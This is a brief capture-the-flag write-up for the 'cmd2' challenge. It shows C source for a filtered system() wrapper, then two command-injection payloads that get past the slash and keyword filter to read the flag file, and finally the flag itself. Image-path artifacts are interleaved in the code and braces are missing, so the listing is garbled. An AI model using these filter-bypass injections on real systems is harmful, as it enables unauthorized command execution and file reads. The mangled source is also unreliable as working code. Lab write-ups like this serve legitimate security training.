- cmd2

1 minute read

Challenge description:

Daddy bought me a system command shell. but he put some filters to prevent me from playing with it without his permission… but I wanna play anytime I want!

#include <stdio.h>
#include <string.h>

int filter(char* cmd){
    int r=0;
    r += strstr(cmd, "=")!=0;
    r += strstr(cmd, "PATH")!=0;
    r += strstr(cmd, "export")!=0;
    r += strstr(cmd, "/")!=0;
    r += strstr(cmd, "`")!=0;
    r += strstr(cmd,"flag")!=0;
    return r;

extern char** environ;
void delete_env(){
    char** p;
    for(p=environ; *p; p++) memset(*p, 0, strlen(*p));

int main(int argc, char* argv[], char** envp){
    printf("before:   %s\n", argv[1]);
    if(filter(argv[1])) return 0;
    printf("%s\n", argv[1]);system( argv[1] );
    return 0;

This challenge has more restrictions, the biggest one is filtering forward slash /, this will prevent us from executing any binary the usual way like this /bin/binary.

The only solution that worked with me is passing the octal value of / (57) to printf with format string %b.


cmd2@pwnable:~$ ./cmd2 '$(printf "%bbin%bcat %s%s" "\57" "\57" "fl" "ag")'
cmd2@pwnable:~$./cmd2 '$(read x; echo $x)' # not my solution but it's very cool
/bin/catflag

Flag: FuN_w1th_5h3ll_v4riabl3s_haha